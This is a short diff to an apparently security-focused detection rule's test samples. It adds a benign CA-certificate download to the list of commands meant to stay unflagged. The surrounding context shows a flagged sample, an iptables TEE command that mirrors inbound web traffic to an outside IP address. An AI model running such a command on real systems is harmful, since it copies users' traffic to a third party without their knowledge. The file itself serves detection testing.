@@ -95,6 +95,7 @@ export default defineRule({
       '```bash\niptables -t mangle -A PREROUTING -p tcp --dport 80 -j TEE --gateway 81.2.69.160\n```\n',
     ],
     quiet: [
+      '```bash\ncurl -O https://truststore.pki.rds.amazonaws.com/global/global-bundle.pem\nsudo cp global-bundle.pem /usr/local/share/ca-certificates/rds.crt\nsudo update-ca-certificates\n```\n',
       '```json\n{"env": {"OTEL_EXPORTER_OTLP_ENDPOINT": "http://localhost:4318", "KILN_LOG_PROMPTS": "full"}}\n```\n',
       '```bash\nffmpeg -f x11grab -i :0 -t 60 demo.mp4\n```\n',
       '```bash\necho | openssl s_client -connect www.larch-quay.net:443 | openssl x509 -noout -dates\n```\n',
